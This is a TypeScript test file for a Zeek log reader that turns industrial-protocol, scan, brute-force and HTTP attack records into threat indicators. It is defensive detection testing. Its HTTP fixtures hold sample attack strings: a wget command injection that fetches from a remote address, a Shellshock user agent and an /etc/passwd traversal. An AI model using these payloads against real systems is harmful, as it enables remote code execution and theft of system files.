import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { decodeBehaviours } from '../../domain/evidence/behaviour.ts';
import type { SensorEvent } from '../../domain/indicator/sensor-event.ts';
import { actOf } from '../acts.test-support.ts';
import type { ReaderOptions, RecordResult } from '../reader.ts';
import { zeekTsv } from './tsv.ts';

const ATTACKER = '198.51.100.7';
const DEVICE = '10.20.0.5';
const TIME = '1772409600.123456';

const CONNECTION: Readonly<Record<string, string>> = {
  ts: TIME,
  uid: 'CExample0001',
  'id.orig_h': ATTACKER,
  'id.orig_p': '40001',
  'id.resp_h': DEVICE,
  'id.resp_p': '502',
};

function header(path: string, names: readonly string[]): string[] {
  return [
    '#separator \\x09',
    '#set_separator\t,',
    '#empty_field\t(empty)',
    '#unset_field\t-',
    `#path\t${path}`,
    '#open\t2026-03-02-00-00-00',
    `#fields\t${names.join('\t')}`,
    `#types\t${names.map(() => 'string').join('\t')}`,
  ];
}

/** A log whose rows have the columns of the first row, after the columns of a connection. */
function log(path: string, ...rows: Readonly<Record<string, string>>[]): string[] {
  const whole = rows.map((row) => ({ ...CONNECTION, ...row }));
  const names = Object.keys(whole[0] ?? CONNECTION);
  return [
    ...header(path, names),
    ...whole.map((row: Record<string, string>) => names.map((name) => row[name] ?? '-').join('\t')),
  ];
}

function read(lines: readonly string[], options: ReaderOptions = {}): RecordResult[] {
  const reader = zeekTsv.createReader(options);
  return lines
    .map((text, index) => reader.read({ text, number: index + 1 }))
    .filter((result) => result !== undefined);
}

type Outcome = string | Readonly<Record<string, string>>;

/** The result of each record: evidence of its event, `-` for nothing to report, or the reason of its refusal. */
function outcomes(lines: readonly string[], options: ReaderOptions = {}): Outcome[] {
  return read(lines, options).map((result) => {
    if (result.kind === 'refused') return result.reason;
    return result.kind === 'events' ? (result.events[0] === undefined ? '?' : actOf(result.events[0])) : '-';
  });
}

function outcome(path: string, row: Readonly<Record<string, string>>): Outcome | undefined {
  return outcomes(log(path, row))[0];
}

function onlyEvent(lines: readonly string[], options: ReaderOptions = {}): SensorEvent {
  const [result] = read(lines, options);
  assert.ok(result?.kind === 'events');
  const [event] = result.events;
  assert.ok(event !== undefined);
  return event;
}

test('an event has the originator, the time of the row and the protocol of the log', () => {
  const event = onlyEvent(log('modbus', { func: 'WRITE_SINGLE_COIL', exception: '-' }));
  assert.equal(event.value, ATTACKER);
  assert.equal(event.observedAt, Date.UTC(2026, 2, 2, 0, 0, 0, 123));
  assert.equal(event.protocol, 'MODBUS');
  assert.equal(event.sensorType, 'ICS');
  assert.equal(event.sensorId, 'zeek');
  assert.equal(onlyEvent(log('modbus', { func: 'READ_COILS' }), { sensor: 'tap-1' }).sensorId, 'tap-1');
});

test('requests of control protocols', () => {
  const cases: [string, Record<string, string>, Outcome][] = [
    ['modbus', { func: 'READ_COILS', pdu_type: 'REQ' }, { 'modbus.function_code': 'READ_COILS' }],
    ['modbus', { func: 'READ_COILS', pdu_type: 'RESP' }, '-'],
    [
      'modbus',
      { func: 'READ_COILS_EXCEPTION', pdu_type: 'RESP' },
      { 'modbus.function_code': 'READ_COILS_EXCEPTION' },
    ],
    ['modbus', { func: 'unknown-171', exception: '-' }, { 'modbus.function_code': 'unknown-171' }],
    ['modbus', { func: '-' }, '-'],
    [
      'modbus_detailed',
      { func: 'ENCAP_INTERFACE_TRANSPORT', mei_type: 'Read Device Identification' },
      {
        'modbus.function_code': 'ENCAP_INTERFACE_TRANSPORT',
        'modbus.mei_type': 'Read Device Identification',
      },
    ],
    [
      'modbus_detailed',
      { func: 'DIAGNOSTICS', request_subfunction_code: 'Force Listen Only Mode' },
      { 'modbus.function_code': 'DIAGNOSTICS', 'modbus.diagnostic_subfunction': 'Force Listen Only Mode' },
    ],
    ['modbus_mask_write_register', { func: 'MASK_WRITE_REGISTER', request_response: 'RESPONSE' }, '-'],
    ['dnp3', { fc_request: 'COLD_RESTART', fc_reply: 'RESPONSE' }, { 'dnp3.function_code': 'COLD_RESTART' }],
    ['dnp3', { fc_request: '-', fc_reply: 'UNSOLICITED_RESPONSE' }, '-'],
    ['dnp3_control', { is_orig: 'T', function_code: 'OPERATE' }, { 'dnp3.function_code': 'OPERATE' }],
    ['dnp3_control', { is_orig: 'F', function_code: 'RESPONSE' }, '-'],
    ['dnp3_objects', { is_orig: 'T', function_code: 'READ' }, { 'dnp3.function_code': 'READ' }],
    [
      'bacnet',
      { is_orig: 'T', pdu_type: 'CONFIRMED_REQUEST', pdu_service: 'reinitialize_device' },
      { 'bacnet.service': 'reinitialize_device' },
    ],
    [
      'bacnet',
      { is_orig: 'T', pdu_type: 'UNCONFIRMED_REQUEST', pdu_service: 'who_is' },
      { 'bacnet.unconfirmed_service': 'who_is' },
    ],
    ['bacnet', { is_orig: 'T', pdu_type: 'COMPLEX_ACK', pdu_service: 'read_property' }, '-'],
    [
      'bacnet_property',
      { is_orig: 'T', pdu_service: 'read-property-request', object_type: 'device' },
      { 'bacnet.service': 'read-property-request', 'bacnet.object_type': 'device' },
    ],
    ['bacnet_property', { is_orig: 'T', pdu_service: 'read-property-ack', object_type: 'device' }, '-'],
    ['bacnet_discovery', { is_orig: 'T', pdu_service: 'who-has' }, { 'bacnet.service': 'who-has' }],
    ['bacnet_device_control', { is_orig: 'T', pdu_service: 'reinitialize_device', result: 'SUCCESS' }, '-'],
    [
      's7comm',
      { is_orig: 'T', rosctr_code: '1', function_code: '0x28', subfunction_code: 'P_PROGRAM' },
      { 's7.rosctr': '1', 's7.function_code': '0x28', 's7.subfunction': 'P_PROGRAM' },
    ],
    ['s7comm', { is_orig: 'T', rosctr_code: '3', function_code: '0x29' }, '-'],
    [
      's7comm_plus',
      { is_orig: 'T', opcode: '0x31', function_code: '0x04f2' },
      { 's7.plus_function_code': '0x04f2' },
    ],
    ['s7comm_plus', { is_orig: 'T', opcode: '0x33', function_code: '-' }, '-'],
    [
      's7comm_read_szl',
      { is_orig: 'T', method: 'Request' },
      { 's7.rosctr': '7', 's7.function_code': '0x44', 's7.subfunction': '0x01' },
    ],
    [
      's7comm_upload_download',
      { is_orig: 'T', rosctr: 'Job-Request', function_name: 'Start Upload' },
      { 's7.rosctr': '1', 's7.function_code': 'Start Upload' },
    ],
    ['cotp', { is_orig: 'T', pdu_code: '0x0e' }, { connection: 'established' }],
    ['cotp', { is_orig: 'T', pdu_code: '0x0f' }, '-'],
    [
      'opcua_binary',
      { msg_type: 'MSG', identifier_str: 'WriteRequest' },
      { 'opcua.service': 'WriteRequest' },
    ],
    ['opcua_binary', { msg_type: 'MSG', identifier_str: 'WriteResponse' }, '-'],
    ['opcua_binary', { msg_type: 'HEL', identifier_str: '-' }, { connection: 'established' }],
    [
      'enip',
      { is_orig: 'T', enip_command_code: '0x63', enip_command: 'List Identity' },
      { 'enip.command': '0x63' },
    ],
    ['cip', { is_orig: 'T', direction: 'request', cip_service: 'Reset' }, { 'cip.service': 'Reset' }],
    ['cip', { is_orig: 'F', direction: 'response', cip_service: 'Reset' }, '-'],
  ];
  for (const [path, row, expected] of cases) {
    assert.deepEqual(outcome(path, row), expected, `${path} ${JSON.stringify(row)}`);
  }
});

test('an exception is decoded as a request for the function 128 lower', () => {
  const event = onlyEvent(log('modbus', { func: 'unknown-171' }));
  assert.deepEqual(decodeBehaviours(event).behaviours, [
    'modbus:exception',
    'modbus:read-device-identification',
  ]);
});

test('where the roles are swapped the device is still no indicator', () => {
  const row = {
    is_orig: 'F',
    source_h: DEVICE,
    destination_h: ATTACKER,
    rosctr_code: '1',
    function_code: '0xf0',
  };
  assert.equal(outcome('s7comm', row), '-');
  const request = { ...row, is_orig: 'T' };
  assert.equal(onlyEvent(log('s7comm', request)).value, ATTACKER);
});

test('a peer whose connections come to nothing is reported from the third on', () => {
  const probe = { proto: 'tcp', conn_state: 'S0', history: 'S', orig_bytes: '-', local_orig: 'F' };
  const scan = { 'scan.type': 'ports' };
  assert.deepEqual(
    outcomes(
      log(
        'conn',
        { ...probe, 'id.resp_p': '443' },
        { ...probe, 'id.resp_p': '444', conn_state: 'REJ', history: 'Sr' },
        { ...probe, 'id.orig_h': '198.51.100.8' },
        { ...probe, 'id.resp_p': '445', conn_state: 'RSTO', history: 'ShR', orig_bytes: '0' },
        { ...probe, 'id.resp_p': '502' },
      ),
    ),
    ['-', '-', '-', { ...scan, connection: 'RSTO' }, { ...scan, connection: 'S0' }],
  );
});

test('connections that are no probe', () => {
  const probe = { proto: 'tcp', conn_state: 'S0', history: 'S', orig_bytes: '0', local_orig: 'F' };
  for (const row of [
    { conn_state: 'SF' },
    { conn_state: 'RSTO', orig_bytes: '120' },
    { proto: 'udp' },
    { history: '^d' },
    { local_orig: 'T' },
    { 'id.orig_h': '10.20.0.9' },
  ]) {
    const same = { ...probe, ...row };
    assert.deepEqual(
      outcomes(log('conn', same, same, same, same)),
      ['-', '-', '-', '-'],
      JSON.stringify(row),
    );
  }
});

test('notices that name an attacker', () => {
  const notice = (note: string, msg = '-'): Outcome | undefined =>
    outcome('notice', { note, msg, src: '198.51.100.9', 'id.orig_h': '-' });
  assert.deepEqual(notice('Scan::Port_Scan'), { 'scan.type': 'ports' });
  assert.deepEqual(notice('Scan::Address_Scan'), { 'scan.type': 'addresses' });
  assert.deepEqual(
    notice('SSH::Password_Guessing', 'x appears to be guessing SSH passwords (seen in 30 connections).'),
    {
      'login.result': 'failed',
      'login.tries': '30',
    },
  );
  assert.deepEqual(notice('FTP::Bruteforcing', 'x had 20 failed logins on 1 FTP server in 0m37s'), {
    'login.result': 'failed',
    'login.tries': '20',
  });
  assert.deepEqual(notice('HTTP::SQL_Injection_Attacker'), { 'http.attack': 'sqli' });
  assert.deepEqual(notice('CVE_2021_44228::LOG4J_ATTEMPT_HEADER'), { 'exploit.cve': 'CVE-2021-44228' });
  for (const note of [
    'HTTP::SQL_Injection_Victim',
    'ProtocolDetector::Protocol_Found',
    'SSL::Invalid_Server_Cert',
    'CaptureLoss::Too_Little_Traffic',
    'Intel::Notice',
  ]) {
    assert.equal(notice(note), '-', note);
  }
  assert.equal(
    onlyEvent(log('notice', { note: 'Scan::Port_Scan', src: '198.51.100.9' })).value,
    '198.51.100.9',
  );
  assert.equal(outcome('notice', { note: 'Scan::Port_Scan', src: '-', 'id.orig_h': '-' }), 'MISSING_ADDRESS');
});

test('a file that is known as malware gives its hash and its URL', () => {
  const sha1 = '2fd4e1c67a2d28fced849ee1bb76e7391b93eb12';
  const [result] = read(
    log('notice', {
      note: 'TeamCymruMalwareHashRegistry::Match',
      sub: `https://www.example.com/search/?query=${sha1}`,
      file_desc: 'http://files.example.net/a.exe',
      src: DEVICE,
    }),
  );
  assert.ok(result?.kind === 'events');
  assert.deepEqual(
    result.events.map(({ indicatorType, value }) => [indicatorType, value]),
    [
      ['FILE_HASH_SHA1', sha1],
      ['URL', 'http://files.example.net/a.exe'],
      ['DOMAIN', 'files.example.net'],
    ],
  );
});

test('intelligence hits are sightings of what was listed', () => {
  const hit = (type: string, indicator: string): unknown => {
    const [result] = read(log('intel', { 'seen.indicator': indicator, 'seen.indicator_type': type }));
    return result?.kind === 'events' && [result.events[0]?.indicatorType, result.events[0]?.value];
  };
  assert.deepEqual(hit('Intel::DOMAIN', 'bad.example.com'), ['DOMAIN', 'bad.example.com']);
  assert.deepEqual(hit('Intel::ADDR', '192.0.2.9'), ['UNSPECIFIED', '192.0.2.9']);
  assert.deepEqual(hit('Intel::URL', 'bad.example.com/x'), ['URL', 'bad.example.com/x']);
  assert.equal(hit('Intel::USER_NAME', 'root'), false);
});

test('only requests that carry a payload are an attack', () => {
  const get = (uri: string, user_agent = '-'): Outcome | undefined =>
    outcome('http', { method: 'GET', host: 'www.example.com', uri, user_agent });
  assert.equal(get('/index.html', 'Mozilla/5.0'), '-');
  assert.deepEqual(get('/a?b=1\\x3bwget+http://192.0.2.1/a'), {
    'http.method': 'GET',
    'http.path': '/a?b=1;wget+http://192.0.2.1/a',
  });
  assert.deepEqual(get('/', '() { :; }; echo x'), {
    'http.method': 'GET',
    'http.path': '/',
    'http.user_agent': '() { :; }; echo x',
  });
  const outbound = log('http', { 'id.orig_h': DEVICE, method: 'GET', uri: '/../../etc/passwd' });
  assert.deepEqual(outcomes(outbound), ['-']);
});

test('failed logins are reported from the third try on, successes never', () => {
  const login = { auth_success: 'F', auth_attempts: '1', direction: 'INBOUND' };
  assert.deepEqual(
    outcomes(log('ssh', login, login, { ...login, auth_attempts: '3' }, { ...login, auth_success: 'T' })),
    ['-', '-', { 'login.result': 'failed', 'login.tries': '5' }, '-'],
  );
  assert.deepEqual(outcomes(log('ssh', { ...login, auth_attempts: '9', direction: 'OUTBOUND' })), ['-']);
});

test('SNMP from outside', () => {
  const snmp = (get: string, bulk: string, set: string): Outcome | undefined =>
    outcome('snmp', { get_requests: get, get_bulk_requests: bulk, set_requests: set });
  assert.deepEqual(snmp('1', '0', '0'), { 'snmp.operation': 'get' });
  assert.deepEqual(snmp('30', '30', '0'), { 'snmp.operation': 'walk' });
  assert.deepEqual(snmp('1', '0', '1'), { 'snmp.operation': 'set' });
  assert.equal(snmp('0', '0', '0'), '-');
  assert.deepEqual(outcomes(log('snmp', { get_requests: '1', 'id.orig_h': '10.0.0.1' })), ['-']);
});

test('logs of ordinary traffic have nothing to report', () => {
  for (const path of [
    'dns',
    'ssl',
    'x509',
    'files',
    'dhcp',
    'weird',
    'opcua_binary_read',
    's7comm_known_devices',
  ]) {
    assert.equal(outcome(path, { query: 'bad.example.com', server_name: 'bad.example.com' }), '-', path);
  }
});

test('a header may change in the middle of an input', () => {
  const lines = [
    ...log('dns', { query: 'example.com' }),
    '#close\t2026-03-02-01-00-00',
    ...log('modbus', { func: 'READ_COILS' }),
    ...header('dnp3', ['fc_request', 'id.orig_h', 'ts']),
    ['WRITE', '198.51.100.7', TIME].join('\t'),
  ];
  assert.deepEqual(outcomes(lines), [
    '-',
    { 'modbus.function_code': 'READ_COILS' },
    { 'dnp3.function_code': 'WRITE' },
  ]);
});

test('a new header leaves nothing of the one before', () => {
  const [row = ''] = log('modbus', { func: 'READ_COILS' }).slice(-1);
  assert.deepEqual(outcomes([...log('modbus', { func: 'READ_COILS' }), '#separator \\x09', row]), [
    { 'modbus.function_code': 'READ_COILS' },
    'NO_COLUMN_NAMES',
  ]);
});

test('separator and marks of missing values are those of the header', () => {
  const lines = [
    '#separator \\x7c',
    '#unset_field|none',
    '#empty_field|nothing',
    '#path|modbus',
    '#fields|ts|id.orig_h|func|mei_type|request_subfunction_code',
    [TIME, ATTACKER, 'ENCAP_INTERFACE_TRANSPORT', 'none', 'nothing'].join('|'),
  ];
  assert.deepEqual(outcomes(lines), [{ 'modbus.function_code': 'ENCAP_INTERFACE_TRANSPORT' }]);
});

test('of a header only the names may be left', () => {
  assert.deepEqual(outcomes(['ts\tid.orig_h\tfunc', [TIME, ATTACKER, 'READ_COILS'].join('\t')]), [
    { 'modbus.function_code': 'READ_COILS' },
  ]);
  const cut = ['seen.indicator\tseen.indicator_type', 'example.com\tIntel::DOMAIN', 'root\tIntel::USER_NAME'];
  assert.deepEqual(outcomes(cut), ['MISSING_TIMESTAMP', '-']);
});

test('a redacted or impossible time is refused row by row, whatever the log', () => {
  for (const ts of ['XXXXXXXXXX.XXXXXX', '0.000000', 'yesterday', '1772409600.12.3']) {
    assert.equal(outcome('modbus', { ts, func: 'READ_COILS' }), 'INVALID_TIMESTAMP', ts);
    assert.equal(outcome('dns', { ts }), 'INVALID_TIMESTAMP', ts);
  }
  assert.equal(outcome('modbus', { ts: '-', func: 'READ_COILS' }), 'MISSING_TIMESTAMP');
});

test('a bad row is refused alone, with its number and its reason', () => {
  const [good = ''] = log('modbus', { func: 'READ_COILS' }).slice(-1);
  const lines = [
    good,
    ...log('modbus', { func: 'READ_COILS', 'id.orig_h': 'plc' }),
    good.slice(0, 40),
    `${good}\tmore`,
    good.replace(ATTACKER, '-'),
    '',
    good,
  ];
  assert.deepEqual(
    read(lines).map((result) => (result.kind === 'refused' ? result.reason : result.line)),
    ['NO_COLUMN_NAMES', 'INVALID_ADDRESS', 'WRONG_COLUMN_COUNT', 'WRONG_COLUMN_COUNT', 'MISSING_ADDRESS', 15],
  );
});

test("addresses of a home net that was named are the sensor's own", () => {
  const lines = log('modbus', { func: 'READ_COILS', 'id.orig_h': '203.0.113.20' });
  assert.deepEqual(outcomes(lines, { homeNet: ['203.0.113.0/24'] }), ['SENSOR_ADDRESS']);
  assert.deepEqual(outcomes(lines), [{ 'modbus.function_code': 'READ_COILS' }]);
});

test('any values in any log: one result for each row, and never the device', () => {
  const paths = fc.constantFrom(
    'conn',
    'notice',
    'intel',
    'http',
    'ssh',
    'snmp',
    'modbus',
    'bacnet',
    's7comm',
    'cip',
    'x',
  );
  const names = fc.constantFrom(
    'func',
    'note',
    'sub',
    'uri',
    'is_orig',
    'pdu_type',
    'pdu_service',
    'seen.indicator',
    'src',
  );
  const values = fc.oneof(
    fc.constantFrom(
      '-',
      '(empty)',
      'T',
      'F',
      '0x31',
      '1',
      'unknown-200',
      'Scan::Port_Scan',
      ATTACKER,
      '\\x00\\xff',
    ),
    fc.string().map((text) => text.replaceAll(/[\t\n]/g, ' ')),
  );
  fc.assert(
    fc.property(
      paths,
      fc.array(fc.dictionary(names, values), { minLength: 1, maxLength: 4 }),
      (path, rows) => {
        const results = read(log(path, ...rows));
        assert.equal(results.length, rows.length);
        for (const result of results) {
          if (result.kind === 'events') for (const { value } of result.events) assert.notEqual(value, DEVICE);
        }
      },
    ),
    { numRuns: 300 },
  );
});
